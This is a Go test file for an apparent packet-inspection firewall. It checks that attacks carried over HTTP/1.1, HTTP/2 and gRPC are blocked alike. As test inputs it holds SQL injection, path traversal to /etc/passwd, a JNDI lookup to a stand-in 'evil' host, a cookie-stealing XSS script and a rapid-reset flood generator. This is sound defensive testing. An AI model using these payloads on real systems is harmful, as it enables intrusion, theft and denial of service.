package dpi

import (
	"bytes"
	"compress/gzip"
	"os"
	"slices"
	"strings"
	"testing"

	xhttp2 "golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/deepwall/deepwall/ctl/eve"
	"github.com/deepwall/deepwall/dataplane"
	"github.com/deepwall/deepwall/dpi/flow"
	"github.com/deepwall/deepwall/internal/ruletest"
)

// h2Request is one request of a test, written in either protocol.
type h2Request struct {
	method, path string
	headers      [][2]string // lower-case names
	body         string
	resp         string // response body ("hello" when empty)
}

func (r h2Request) respBody() string {
	if r.resp == "" {
		return "hello"
	}
	return r.resp
}

// h2Bytes returns the client's and server's bytes of an HTTP/2
// prior-knowledge connection carrying req on stream 1 and a 200 with a
// short body, framed by golang.org/x/net/http2 (as Go's clients and
// servers frame them).
func h2Bytes(tb testing.TB, req h2Request) (c2s, s2c []byte) {
	tb.Helper()
	var cb, sb bytes.Buffer
	cb.WriteString(xhttp2.ClientPreface)
	cf, sf := xhttp2.NewFramer(&cb, nil), xhttp2.NewFramer(&sb, nil)
	must := func(err error) {
		if err != nil {
			tb.Fatal(err)
		}
	}
	must(cf.WriteSettings())
	must(sf.WriteSettings())
	must(sf.WriteSettingsAck())
	must(cf.WriteSettingsAck())
	var hb bytes.Buffer
	enc := hpack.NewEncoder(&hb)
	for _, f := range [][2]string{{":method", req.method}, {":scheme", "http"}, {":authority", "shop"}, {":path", req.path}} {
		must(enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
	}
	for _, h := range req.headers {
		must(enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}))
	}
	must(cf.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: req.body == ""}))
	if req.body != "" {
		must(cf.WriteData(1, true, []byte(req.body)))
	}
	hb.Reset()
	senc := hpack.NewEncoder(&hb)
	must(senc.WriteField(hpack.HeaderField{Name: ":status", Value: "200"}))
	must(senc.WriteField(hpack.HeaderField{Name: "content-type", Value: "text/plain"}))
	must(sf.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: 1, BlockFragment: hb.Bytes(), EndHeaders: true}))
	must(sf.WriteData(1, true, []byte(req.respBody())))
	return cb.Bytes(), sb.Bytes()
}

// h1Bytes returns the same exchange over HTTP/1.1.
func h1Bytes(req h2Request) (c2s, s2c []byte) {
	var b strings.Builder
	b.WriteString(req.method + " " + req.path + " HTTP/1.1\r\nHost: shop\r\n")
	for _, h := range req.headers {
		b.WriteString(h[0] + ": " + h[1] + "\r\n")
	}
	if req.body != "" {
		b.WriteString("Content-Length: " + itoa(uint32(len(req.body))) + "\r\n")
	}
	b.WriteString("\r\n" + req.body)
	resp := req.respBody()
	return []byte(b.String()), []byte("HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: " + itoa(uint32(len(resp))) + "\r\n\r\n" + resp)
}

// convPort is the client port of runConv's next connection (each its
// own flow).
var convPort uint32 = 30000

// runConv runs one TCP connection through h, parts sent in turn by the
// client and the server (c2s, s2c, c2s...), and returns the outcome.
func runConv(tb testing.TB, h *harness, parts ...[]byte) (outcome, []*eve.Event) {
	tb.Helper()
	c := newCapture(tb)
	convPort++
	v := c.tcp("198.18.0.1:"+itoa(convPort), srv).handshake()
	for i, p := range parts {
		v.send(flow.Dir(i%2), string(p))
	}
	v.close()
	var o outcome
	for _, vd := range h.run(c) {
		switch {
		case vd.Action == dataplane.Drop && vd.Final:
			o.blocked = true
			o.drops++
		case vd.Rewritten:
			o.blocked = true
			o.resets++
		case vd.Action == dataplane.Drop:
			o.drops++
		case vd.Final:
			o.final = true
		}
	}
	evs := h.take()
	o.alerts = alerts(evs)
	return o, evs
}

// TestHTTP2SameRules: the same requests over HTTP/1.1 and HTTP/2 give
// the same rule hits with the default pack, and attacks in every part
// of the request are blocked on both.
func TestHTTP2SameRules(t *testing.T) {
	const sqli = "1 UNION SELECT password FROM users"
	tests := []struct {
		name  string
		req   h2Request
		block bool
	}{
		{"benign", h2Request{method: "GET", path: "/index.html?id=42", headers: [][2]string{{"user-agent", "curl/8"}, {"accept", "*/*"}}}, false},
		{"benign json", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}}, body: `{"name":"widget","qty":3}`}, false},
		{"path", h2Request{method: "GET", path: "/../../etc/passwd"}, true},
		{"query", h2Request{method: "GET", path: "/?id=1%20UNION%20SELECT%20password%20FROM%20users"}, true},
		{"header", h2Request{method: "GET", path: "/", headers: [][2]string{{"x-api-version", "${jndi:ldap://evil/a}"}}}, true},
		{"cookie", h2Request{method: "GET", path: "/", headers: [][2]string{{"cookie", "session=" + sqli}}}, true},
		{"json body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}}, body: `{"name":"widget","note":"` + sqli + `"}`}, true},
		{"gzip json body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}, {"content-encoding", "gzip"}}, body: gzipString(t, `{"name":"widget","note":"`+sqli+`"}`)}, true},
		{"benign gzip body", h2Request{method: "POST", path: "/api/items", headers: [][2]string{{"content-type", "application/json"}, {"content-encoding", "gzip"}}, body: gzipString(t, `{"name":"widget","qty":3}`)}, false},
		{"card in response", h2Request{method: "GET", path: "/account", resp: "<p>Card on file: 4111 1111 1111 1111</p>"}, false},
		{"form body", h2Request{method: "POST", path: "/login", headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}}, body: "user=" + strings.ReplaceAll(sqli, " ", "+")}, true},
	}
	h := newHarness(t, ruletest.DefaultPack(t), Config{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var got [2]outcome
			for i, conv := range []func(h2Request) ([]byte, []byte){h1Bytes, func(r h2Request) ([]byte, []byte) { return h2Bytes(t, r) }} {
				c2s, s2c := conv(tc.req)
				o, evs := runConv(t, h, c2s, s2c)
				got[i] = o
				if o.blocked != tc.block {
					dumpEvents(t, evs)
					t.Errorf("transport %d: blocked = %v, want %v", i+1, o.blocked, tc.block)
				}
				if i == 1 {
					checkH2Events(t, evs)
				}
			}
			if strings.HasPrefix(tc.name, "card") && !slices.Contains(got[1].alerts, "allowed:5001") {
				t.Errorf("no DLP alert on the HTTP/2 response: %v", got[1].alerts)
			}
			if !slices.Equal(got[0].alerts, got[1].alerts) {
				t.Errorf("rule hits differ: HTTP/1.1 %v, HTTP/2 %v", got[0].alerts, got[1].alerts)
			}
		})
	}
}

func gzipString(tb testing.TB, s string) string {
	tb.Helper()
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	if _, err := z.Write([]byte(s)); err != nil {
		tb.Fatal(err)
	}
	if err := z.Close(); err != nil {
		tb.Fatal(err)
	}
	return b.String()
}

// checkH2Events: an HTTP/2 flow's events say http2 and carry the stream.
func checkH2Events(tb testing.TB, evs []*eve.Event) {
	tb.Helper()
	for _, ev := range evs {
		if ev.AppProto != "" && ev.AppProto != "http2" {
			tb.Errorf("app_proto %q, want http2", ev.AppProto)
		}
		if ev.EventType == eve.EventAlert && ev.HTTP != nil && ev.HTTP.StreamID != 1 {
			tb.Errorf("alert stream_id %d, want 1", ev.HTTP.StreamID)
		}
	}
}

// readConv reads a captured conversation of dpi/proto/http2's testdata.
func readConv(tb testing.TB, name string) (c2s, s2c []byte) {
	tb.Helper()
	var err error
	if c2s, err = os.ReadFile("proto/http2/testdata/conv/" + name + ".c2s"); err != nil {
		tb.Fatal(err)
	}
	if s2c, err = os.ReadFile("proto/http2/testdata/conv/" + name + ".s2c"); err != nil {
		tb.Fatal(err)
	}
	return c2s, s2c
}

// TestHTTP2Conversations runs the captured conversations of real peers
// (curl, nghttp, grpc-go) through the engine: with the default pack the
// attacks they carry are blocked, on prior knowledge and after an h2c
// upgrade alike; the gRPC fields are filled.
func TestHTTP2Conversations(t *testing.T) {
	const custom = `rules:
  - {id: 1, action: alert, match: {field: http.version, regex: '^HTTP/2\.0$'}}
  - {id: 2, action: alert, match: {field: grpc.service, regex: '^orders\.v1\.Orders$'}}
  - {id: 3, action: alert, match: {field: grpc.method, regex: '^Create$'}}
  - {id: 4, action: block, match: {field: grpc.string, regex: 'UNION SELECT'}}
  - {id: 5, action: alert, match: {field: grpc.status, regex: '^0$'}}
  - {id: 6, action: alert, match: {field: grpc.message_length, regex: '^37$'}}
  - {id: 7, action: alert, match: {field: http.args, regex: 'q=1'}}
  - {id: 8, action: alert, match: {field: grpc.message, regex: 'bad'}}
  - {id: 9, action: alert, match: {field: http.status, regex: '^200$'}}
`
	tests := []struct {
		conv    string
		pack    bool // the default pack, else custom
		blocked bool
		alerts  []string
		app     string
		conn    bool // H2BlockConnection
	}{
		{"curl-prior.0", true, true, nil, "http2", false},
		{"nghttp-post.0", true, true, nil, "http2", false},
		{"nghttp-multi.0", true, false, nil, "http2", false},
		{"h2load.0", true, false, nil, "http2", false},
		{"curl-upgrade.0", false, false, []string{"allowed:7", "allowed:9"}, "http2", false},
		{"grpc.0", false, true, []string{"allowed:1", "allowed:2", "allowed:3", "blocked:4", "allowed:6"}, "grpc", false},
		{"grpc-go.0", false, true, nil, "grpc", false},
		// The default pack's libinjection rules on grpc.string.
		{"grpc.0", true, true, []string{"blocked:942105"}, "grpc", false},
		// grpc-go's three calls carry the attack: each stream is reset
		// alone, or the connection with the first.
		{"grpc-go.0", true, true, []string{"blocked:942105", "blocked:942105", "blocked:942105"}, "grpc", false},
		{"grpc-go.0", true, true, []string{"blocked:942105"}, "grpc", true},
	}
	packH := newHarness(t, ruletest.DefaultPack(t), Config{})
	connH := newHarness(t, ruletest.DefaultPack(t), Config{H2Block: H2BlockConnection})
	customH := newHarness(t, compileRules(t, custom), Config{})
	for _, tc := range tests {
		t.Run(tc.conv, func(t *testing.T) {
			h := customH
			switch {
			case tc.conn:
				h = connH
			case tc.pack:
				h = packH
			}
			c2s, s2c := readConv(t, tc.conv)
			parts := [][]byte{c2s, s2c}
			if strings.HasPrefix(tc.conv, "curl-upgrade") {
				// curl sends the preface once the 101 came.
				i := bytes.Index(c2s, []byte("\r\n\r\n")) + 4
				j := bytes.Index(s2c, []byte("\r\n\r\n")) + 4
				parts = [][]byte{c2s[:i], s2c[:j], c2s[i:], s2c[j:]}
			}
			o, evs := runConv(t, h, parts...)
			if o.blocked != tc.blocked || tc.conn && o.resets > 0 {
				dumpEvents(t, evs)
				t.Errorf("blocked = %v (%d stream resets), want %v", o.blocked, o.resets, tc.blocked)
			}
			if tc.alerts != nil && !slices.Equal(o.alerts, tc.alerts) {
				dumpEvents(t, evs)
				t.Errorf("alerts %v, want %v", o.alerts, tc.alerts)
			}
			for _, ev := range evs {
				if ev.AppProto != "" && ev.AppProto != tc.app && ev.AppProto != "http2" && ev.Alert.SignatureID != 7 {
					t.Errorf("app_proto %q, want %q", ev.AppProto, tc.app)
				}
			}
		})
	}
	// Blocked streams leave the connection's other streams inspected.
	if s := customH.e.Stats(); s.GRPCStreams != 4 || s.H2Streams != 5 || s.H2StreamResets != 4 {
		t.Errorf("stats: %d streams, %d gRPC, %d reset", s.H2Streams, s.GRPCStreams, s.H2StreamResets)
	}
}

// TestGRPCStatus: the status and message of grpc-go's calls (one failing
// with InvalidArgument in a trailers-only response), the strings of its
// gzip-compressed messages.
func TestGRPCStatus(t *testing.T) {
	const set = `rules:
  - {id: 1, action: alert, match: {field: grpc.status, regex: '^0$'}}
  - {id: 2, action: alert, match: {field: grpc.status, regex: '^3$'}}
  - {id: 3, action: alert, match: {field: grpc.message, regex: ' '}}
  - {id: 4, action: alert, match: {field: grpc.string, regex: 'UNION SELECT'}}
`
	h := newHarness(t, compileRules(t, set), Config{})
	c2s, s2c := readConv(t, "grpc-go.0")
	o, evs := runConv(t, h, c2s, s2c)
	streams := map[string]bool{}
	for _, ev := range evs {
		if ev.Alert != nil {
			streams[itoa(ev.Alert.SignatureID)+"@"+itoa(ev.HTTP.StreamID)] = true
		}
	}
	for _, want := range []string{"1@1", "1@3", "2@5", "3@5", "4@1", "4@3"} {
		if !streams[want] {
			dumpEvents(t, evs)
			t.Fatalf("no alert %s (rule@stream) in %v", want, o.alerts)
		}
	}
}

// TestHTTP2FatalFinding: a frame that breaks HTTP/2's framing (a
// SETTINGS frame of 5 bytes) blocks the connection.
func TestHTTP2FatalFinding(t *testing.T) {
	h := newHarness(t, ruletest.DefaultPack(t), Config{})
	bad := xhttp2.ClientPreface + "\x00\x00\x05\x04\x00\x00\x00\x00\x00abcde"
	o, evs := runConv(t, h, []byte(bad))
	if !o.blocked {
		dumpEvents(t, evs)
		t.Fatal("not blocked")
	}
	for _, ev := range evs {
		if ev.Drop != nil && ev.Drop.Reason != "http2.malformed_frame" && ev.Drop.Reason != "http2.invalid_preface" {
			t.Errorf("drop reason %q", ev.Drop.Reason)
		}
	}
}

// TestGRPCMethodAllowList: rules segment by gRPC service and method, here
// "only Get and List of orders.v1.Orders": grpc.0 calls Create.
func TestGRPCMethodAllowList(t *testing.T) {
	for _, tc := range []struct {
		conv, methods string
		blocked       bool
	}{
		{"grpc.0", "Get|List", true},
		{"grpc.0", "Get|List|Create", false},
		{"nghttp-post.0", "Get|List", false}, // not gRPC: no method to judge
	} {
		set := "rules:\n  - {id: 1, action: block, match: {field: grpc.method, regex: '^(" + tc.methods + ")$', not: true}}\n"
		h := newHarness(t, compileRules(t, set), Config{})
		c2s, s2c := readConv(t, tc.conv)
		if o, evs := runConv(t, h, c2s, s2c); o.blocked != tc.blocked {
			dumpEvents(t, evs)
			t.Errorf("%s, allowed %s: blocked = %v, want %v", tc.conv, tc.methods, o.blocked, tc.blocked)
		}
	}
}

// TestHTTP2InterleavedBodies: request bodies of concurrent streams
// interleave frame by frame; each stream's body is kept and parsed on its
// own, so an injection split around another stream's DATA is seen whole.
func TestHTTP2InterleavedBodies(t *testing.T) {
	const sqli = `{"note":"1 UNION SELECT password FROM users"}`
	benign := `{"name":"widget","qty":3,"note":"leave at the door"}`
	tests := []struct {
		name    string
		b1, b3  string
		cut     int // stream 1's body is sent in two DATA frames cut here, stream 3's between
		blocked bool
	}{
		{"benign", benign, benign, 20, false},
		{"attack in the interleaved stream", benign, sqli, 20, true},
		{"attack split around the other stream", sqli, benign, 22, true},
	}
	h := newHarness(t, ruletest.DefaultPack(t), Config{})
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var cb bytes.Buffer
			cb.WriteString(xhttp2.ClientPreface)
			cf := xhttp2.NewFramer(&cb, nil)
			must := func(err error) {
				if err != nil {
					t.Fatal(err)
				}
			}
			must(cf.WriteSettings())
			var hb bytes.Buffer
			enc := hpack.NewEncoder(&hb)
			for _, id := range []uint32{1, 3} {
				hb.Reset()
				for _, f := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "shop"}, {":path", "/api/items"}, {"content-type", "application/json"}} {
					must(enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}))
				}
				must(cf.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true}))
			}
			must(cf.WriteData(1, false, []byte(tc.b1[:tc.cut])))
			must(cf.WriteData(3, true, []byte(tc.b3)))
			must(cf.WriteData(1, true, []byte(tc.b1[tc.cut:])))
			var sb bytes.Buffer
			must(xhttp2.NewFramer(&sb, nil).WriteSettings())
			o, evs := runConv(t, h, cb.Bytes(), sb.Bytes())
			if o.blocked != tc.blocked {
				dumpEvents(t, evs)
				t.Errorf("blocked = %v, want %v", o.blocked, tc.blocked)
			}
		})
	}
}

// TestHTTPFinding: the parsers' non-fatal findings are the values of
// http.finding, so rules decide what to do with them: a rapid reset
// (CVE-2023-44487) blocked, a connection-specific field in an HTTP/2
// request and an unknown content coding in an HTTP/1 one alerted.
func TestHTTPFinding(t *testing.T) {
	const set = `rules:
  - {id: 1, action: block, match: {field: http.finding, regex: '^http2\.rapid_reset$'}}
  - {id: 2, action: alert, match: {field: http.finding, regex: '^http2\.connection_header$'}}
  - {id: 3, action: alert, match: {field: http.finding, regex: '^http\.unknown_encoding$'}}
`
	h := newHarness(t, compileRules(t, set), Config{})
	frames := func(fn func(f *xhttp2.Framer, enc *hpack.Encoder, hb *bytes.Buffer)) []byte {
		var cb, hb bytes.Buffer
		cb.WriteString(xhttp2.ClientPreface)
		f := xhttp2.NewFramer(&cb, nil)
		if err := f.WriteSettings(); err != nil {
			t.Fatal(err)
		}
		fn(f, hpack.NewEncoder(&hb), &hb)
		return cb.Bytes()
	}
	head := func(f *xhttp2.Framer, enc *hpack.Encoder, hb *bytes.Buffer, id uint32, extra ...string) {
		hb.Reset()
		fields := append([]string{":method", "GET", ":scheme", "http", ":authority", "shop", ":path", "/"}, extra...)
		for i := 0; i < len(fields); i += 2 {
			_ = enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
		}
		if err := f.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: true}); err != nil {
			t.Fatal(err)
		}
	}
	if o, evs := runConv(t, h, rapidReset(t)); !o.blocked || !slices.Contains(o.alerts, "blocked:1") {
		dumpEvents(t, evs)
		t.Errorf("rapid reset: %+v", o)
	}
	connHdr := frames(func(f *xhttp2.Framer, enc *hpack.Encoder, hb *bytes.Buffer) {
		head(f, enc, hb, 1, "connection", "close")
	})
	if o, evs := runConv(t, h, connHdr); o.blocked || !slices.Equal(o.alerts, []string{"allowed:2"}) {
		dumpEvents(t, evs)
		t.Errorf("connection header: %+v", o)
	}
	h1 := "POST / HTTP/1.1\r\nHost: shop\r\nContent-Encoding: foo\r\nContent-Length: 3\r\n\r\nabc"
	if o, evs := runConv(t, h, []byte(h1)); o.blocked || !slices.Equal(o.alerts, []string{"allowed:3"}) {
		dumpEvents(t, evs)
		t.Errorf("unknown encoding: %+v", o)
	}
}

// rapidReset is a client that opens 150 streams and resets each at once.
func rapidReset(tb testing.TB) []byte {
	tb.Helper()
	var cb, hb bytes.Buffer
	cb.WriteString(xhttp2.ClientPreface)
	f := xhttp2.NewFramer(&cb, nil)
	enc := hpack.NewEncoder(&hb)
	if err := f.WriteSettings(); err != nil {
		tb.Fatal(err)
	}
	for id := uint32(1); id < 2*150; id += 2 {
		hb.Reset()
		for _, fl := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "shop"}, {":path", "/"}} {
			_ = enc.WriteField(hpack.HeaderField{Name: fl[0], Value: fl[1]})
		}
		_ = f.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true, EndStream: true})
		_ = f.WriteRSTStream(id, xhttp2.ErrCodeCancel)
	}
	return cb.Bytes()
}

// TestHTTP2RapidResetDefaultPack: the default pack blocks a rapid reset.
func TestHTTP2RapidResetDefaultPack(t *testing.T) {
	h := newHarness(t, ruletest.DefaultPack(t), Config{})
	if o, evs := runConv(t, h, rapidReset(t)); !o.blocked || !slices.Contains(o.alerts, "blocked:920900") {
		dumpEvents(t, evs)
		t.Errorf("rapid reset: %+v", o)
	}
}

// TestGRPCReassemblyLimit: gRPC messages split across DATA frames are
// held until complete; a connection holding more than maxGRPCBuffered of
// them over its streams is blocked (a skipped message would go
// uninspected). Streams that complete their messages hold nothing.
func TestGRPCReassemblyLimit(t *testing.T) {
	conv := func(streams int, complete bool) []byte {
		var cb, hb bytes.Buffer
		cb.WriteString(xhttp2.ClientPreface)
		f := xhttp2.NewFramer(&cb, nil)
		enc := hpack.NewEncoder(&hb)
		if err := f.WriteSettings(); err != nil {
			t.Fatal(err)
		}
		const msg = 200 << 10
		part := bytes.Repeat([]byte("a"), 16000)
		for i := range streams {
			id := uint32(2*i + 1)
			hb.Reset()
			for _, fl := range [][2]string{{":method", "POST"}, {":scheme", "http"}, {":authority", "shop"}, {":path", "/orders.v1.Orders/Create"}, {"content-type", "application/grpc"}} {
				_ = enc.WriteField(hpack.HeaderField{Name: fl[0], Value: fl[1]})
			}
			_ = f.WriteHeaders(xhttp2.HeadersFrameParam{StreamID: id, BlockFragment: hb.Bytes(), EndHeaders: true})
			// A 200 KiB message (a run of the same byte: not wire
			// format, walked to the fault) sent in 16 KB frames.
			_ = f.WriteData(id, false, []byte{0, 0, msg >> 16 & 0xff, msg >> 8 & 0xff, msg & 0xff})
			sent := 0
			for ; sent+len(part) < msg; sent += len(part) {
				_ = f.WriteData(id, false, part)
			}
			if complete {
				_ = f.WriteData(id, true, part[:msg-sent])
			}
		}
		return cb.Bytes()
	}
	h := newHarness(t, compileRules(t, "rules:\n  - {id: 1, action: alert, match: {field: grpc.string, regex: zzz}}\n"), Config{})
	if o, evs := runConv(t, h, conv(30, true)); o.blocked {
		dumpEvents(t, evs)
		t.Error("30 complete messages: blocked")
	}
	o, evs := runConv(t, h, conv(30, false))
	if !o.blocked {
		t.Fatal("30 unfinished 200 KiB messages: not blocked")
	}
	for _, ev := range evs {
		if ev.Drop != nil && ev.Drop.Reason != "grpc.reassembly_limit" {
			t.Errorf("drop reason %q", ev.Drop.Reason)
		}
	}
}

// TestGRPCDefaultPack: the default pack's libinjection rules read every
// string a gRPC message carries (grpc.string), nested ones too, after
// gRPC's own compression: XSS is 941105, SQL injection 942105, a plain
// string passes.
func TestGRPCDefaultPack(t *testing.T) {
	h := newHarness(t, ruletest.DefaultPack(t), Config{})
	for _, tc := range []struct {
		value string
		want  string // the blocking alert, "" for none
	}{
		{"a gift for Ann", ""},
		{"<script>alert(document.cookie)</script>", "blocked:941105"},
		{"1' UNION SELECT password FROM users--", "blocked:942105"},
	} {
		// Order{note: value, item: Item{name: value}}: fields 1 and 2, the
		// second a nested message holding the value as its field 1.
		str := func(field byte, s string) []byte {
			return append([]byte{field<<3 | 2, byte(len(s))}, s...)
		}
		msg := append(str(1, tc.value), str(2, string(str(1, tc.value)))...)
		// Compressed (grpc-encoding gzip), so only the decoded message's
		// strings can show the attack: the body rules see gzip.
		z := gzipString(t, string(msg))
		body := append([]byte{1, 0, 0, 0, byte(len(z))}, z...)
		c2s, s2c := h2Bytes(t, h2Request{method: "POST", path: "/orders.v1.Orders/Create",
			headers: [][2]string{{"content-type", "application/grpc"}, {"grpc-encoding", "gzip"}, {"te", "trailers"}}, body: string(body)})
		o, evs := runConv(t, h, c2s, s2c)
		if tc.want == "" && (o.blocked || len(o.alerts) > 0) || tc.want != "" && (!o.blocked || !slices.Contains(o.alerts, tc.want)) {
			dumpEvents(t, evs)
			t.Errorf("%q: blocked %v, alerts %v; want %q", tc.value, o.blocked, o.alerts, tc.want)
		}
	}
}
